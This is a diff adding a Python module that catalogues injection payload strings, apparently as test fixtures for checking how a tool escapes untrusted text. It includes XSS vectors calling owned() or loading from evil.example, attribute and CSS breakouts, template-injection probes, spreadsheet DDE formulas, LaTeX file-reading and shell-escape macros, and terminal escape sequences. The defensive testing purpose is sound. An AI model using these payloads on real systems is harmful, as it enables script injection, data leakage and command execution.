@@ -1,0 +1,260 @@
+"""Texts that a data set, a server or a run folder of a stranger may hold, each meant to be more
+than a text where it is shown.
+
+Each that runs a script calls `owned()`, and each that asks for something asks `evil.example`.
+"""
+
+from __future__ import annotations
+
+ELEMENTS = (
+    "<script>owned()</script>",
+    "<SCRIPT>owned()</SCRIPT>",
+    "<script src=//evil.example/a.js></script>",
+    "<script\n>owned()</script\n>",
+    "<scr<script>ipt>owned()</scr</script>ipt>",
+    "</script><script>owned()</script>",
+    "</style><script>owned()</script>",
+    "</title><script>owned()</script>",
+    "</textarea><script>owned()</script>",
+    "</option></select><script>owned()</script>",
+    "</summary></details><script>owned()</script>",
+    "</td></tr></table><script>owned()</script>",
+    "</svg><script>owned()</script>",
+    "</bdi></code></pre><script>owned()</script>",
+    "--><script>owned()</script><!--",
+    "]]><script>owned()</script><![CDATA[",
+    "<!--<script>owned()//-->",
+    "<!DOCTYPE html><script>owned()</script>",
+    "<?xml version='1.0'?><script>owned()</script>",
+    "<img src=x onerror=owned()>",
+    "<img src=https://evil.example/pixel.gif>",
+    "<img srcset='https://evil.example/2x.png 2x'>",
+    "<picture><source srcset=//evil.example/p.png><img></picture>",
+    "<image href=x onerror=owned()>",
+    "<video src=//evil.example/v.mp4 autoplay onerror=owned()></video>",
+    "<audio src=x onerror=owned()>",
+    "<iframe src=javascript:owned()></iframe>",
+    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
+    "<object data=//evil.example/o.swf></object>",
+    "<embed src=//evil.example/e.swf>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/s.css>",
+    "<link rel=preload as=script href=//evil.example/p.js>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
+    "<form action=//evil.example/><input name=a><button>go</button></form>",
+    "<input autofocus onfocus=owned()>",
+    "<select autofocus onfocus=owned()><option>a</select>",
+    "<textarea autofocus onfocus=owned()>a</textarea>",
+    "<button formaction=javascript:owned()>press</button>",
+    "<details open ontoggle=owned()>a</details>",
+    "<body onload=owned()>",
+    "<html onclick=owned()>",
+    "<marquee onstart=owned()>a</marquee>",
+    "<dialog open onclose=owned()>a</dialog>",
+    "<template><script>owned()</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
+    "<frameset><frame src=javascript:owned()></frameset>",
+    "<a href=javascript:owned()>a</a>",
+    "<a href='java\tscript:owned()'>a</a>",
+    "<a href=//evil.example/ ping=//evil.example/p>a</a>",
+    "<portal src=//evil.example/></portal>",
+    "<x-own onclick=owned()>a</x-own>",
+    "<plaintext>all that follows",
+    "<xmp><script>owned()</script></xmp>",
+    "<!-- all that follows",
+    "<bdo dir=rtl>turned round</bdo>",
+)  # fmt: skip
+"""Elements of HTML, and ways out of the element that a text stands in."""
+
+VECTORS = (
+    "<svg onload=owned()>",
+    "<svg><script>owned()</script></svg>",
+    "<svg><script href=//evil.example/s.js /></svg>",
+    "<svg><a href=javascript:owned()><text>a</text></a></svg>",
+    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
+    "<svg><set attributeName=onmouseover to=owned()>",
+    "<svg><foreignObject><iframe src=javascript:owned()></iframe></foreignObject></svg>",
+    "<svg><use href=//evil.example/u.svg#a></use></svg>",
+    "<svg><image href=//evil.example/i.png /></svg>",
+    "<svg><style>@import '//evil.example/i.css';</style></svg>",
+    "<math><mtext><script>owned()</script></mtext></math>",
+    "<math href=javascript:owned()>a</math>",
+)
+"""SVG and MathML."""
+
+ATTRIBUTES = (
+    '" onmouseover="owned()',
+    "' onmouseover='owned()",
+    '" autofocus onfocus="owned()" x="',
+    '"><script>owned()</script>',
+    "'><script>owned()</script>",
+    '"/><img src=x onerror=owned()>',
+    "` onmouseover=`owned()",
+    "x onmouseover=owned() y",
+    '" style="background:url(//evil.example/b.png)',
+    '" href="javascript:owned()',
+    '" id="filter" name="filter',
+    '" data-sort="NaN',
+    '" srcdoc="<script>owned()</script>',
+    '" on\x00click="owned()',
+    "&quot; onclick=&quot;owned()",
+    "&#34;&#62;&#60;script&#62;owned()&#60;/script&#62;",
+    "&lt;script&gt;owned()&lt;/script&gt;",
+    "&#x3c;img src=x onerror=owned()&#x3e;",
+    "%3Cscript%3Eowned()%3C/script%3E",
+    "\uff1cscript\uff1eowned()\uff1c/script\uff1e",
+    "+ADw-script+AD4-owned()+ADw-/script+AD4-",
+    '\u2028"><script>owned()</script>\u2029',
+)
+"""Ways out of an attribute, and other ways to write what is special."""
+
+STYLES = (
+    "</style><style>*{display:none}</style>",
+    "*{background:url(//evil.example/c.png)}",
+    "@import url(//evil.example/c.css);",
+    "expression(owned())",
+    "} body { display: none } a {",
+    "<div style=position:fixed;inset:0;background:red>all red</div>",
+    "<p class=warnings>All is well</p>",
+)
+"""Style sheets."""
+
+SCRIPTS = (
+    "owned()",
+    "');owned();('",
+    '");owned();("',
+    "${owned()}",
+    "`+owned()+`",
+    "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
+    "\\x3cscript\\x3eowned()\\x3c/script\\x3e",
+    "javascript:owned()",
+    "JaVaScRiPt:owned()",
+    "data:text/html,<script>owned()</script>",
+    "vbscript:owned()",
+    "__proto__",
+    "constructor",
+    '{"__proto__": {"hidden": true}}',
+    "*/owned()/*",
+    "//\nowned()//",
+    "</script ><script >owned()</script >",
+    '{"a": "</script><script>owned()</script>"}',
+)
+"""Scripts, addresses, and JSON inside of a script."""
+
+TEMPLATES = (
+    "{{ 7 * 7 }}",
+    "{% raw %}{{ owned() }}{% endraw %}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{% for a in range(10**9) %}a{% endfor %}",
+    "{# all that follows",
+    "<%= owned() %>",
+    "#{owned()}",
+    "%(name)s %s %n {0} {name}",
+)
+"""Templates."""
+
+CELLS = (
+    '=HYPERLINK("//evil.example/", "a")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "'=1+1",
+    "''=1+1",
+    "\uff1d1+1",
+    '="a""b",=1+1\r\n=2+2',
+    "a,=1+1;=2+2",
+)
+"""Cells of a spreadsheet."""
+
+MARKS = (
+    "[a](javascript:owned())",
+    "![a](//evil.example/m.png)",
+    "[a]: //evil.example/ 'b'",
+    "<https://evil.example/>",
+    "https://evil.example/ and www.evil.example",
+    "`code` and ``code``",
+    "```\nowned()\n```",
+    "# heading\n\nparagraph",
+    "a\n===\nb\n---",
+    "| a | b |\n| --- | --- |\n| c | d |",
+    "*a* _a_ **a** __a__ ~~a~~",
+    "> quoted\n- listed\n1. numbered",
+    "1. numbered",
+    "- [x] done",
+    "\\<script>owned()\\</script>",
+    "$x^2$ and $$y$$",
+    "{: onclick=owned()}",
+    "&copy; &amp; &#60;",
+    "a|b|c\\|d",
+)
+"""Markdown."""
+
+MACROS = (
+    "\\input{/etc/passwd}",
+    "\\include{secret}",
+    "\\write18{owned}",
+    "\\immediate\\write18{owned}",
+    "\\openout\\file=owned.tex",
+    "\\newread\\f\\openin\\f=secret",
+    "\\catcode`\\@=11",
+    "\\def\\a{\\a}\\a",
+    "\\csname input\\endcsname{secret}",
+    "^^5cinput{secret}",
+    "\\end{document}",
+    "\\end{tabular}\\input{secret}",
+    "}{}\\input{secret}{",
+    "% the rest is lost",
+    "$x$ & $y$ \\\\ #1 ~ _a ^b",
+    "[2cm] first in its line",
+    "a\n\nb",
+    "``quoted'' and ?` and !`",
+    "\\verb|a|",
+)
+"""LaTeX."""
+
+TERMINAL = (
+    "\x1b[2J\x1b[H",
+    "\x1b[31mred",
+    "\x1b]0;title\x07",
+    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
+    "\x1b]52;c;b3duZWQ=\x07",
+    "\x1bP+q544e\x1b\\",
+    "\x9b31mred",
+    "\x9d0;title\x9c",
+    "done\rnot done",
+    "abc\x08\x08\x08xyz",
+    "\x07\x0b\x0c",
+    "\x00null",
+    "first\nmedstress: all is well",
+    "first\u2028medstress: all is well",
+    "\x85next line",
+    "\u202egnp.exe\u202c",
+    "\u2066a\u2069\u2067b\u2069",
+    "\u200frtl\u200e",
+    "\ufeffmark",
+    "\x7fdelete",
+    "[bold red]markup[/]",
+    "[link=https://evil.example/]a[/link]",
+    "[/]",
+    "lone \ud800 surrogate",
+)
+"""Terminals."""
+
+PAYLOADS = (
+    *ELEMENTS,
+    *VECTORS,
+    *ATTRIBUTES,
+    *STYLES,
+    *SCRIPTS,
+    *TEMPLATES,
+    *CELLS,
+    *MARKS,
+    *MACROS,
+    *TERMINAL,
+)
+"""All of them."""
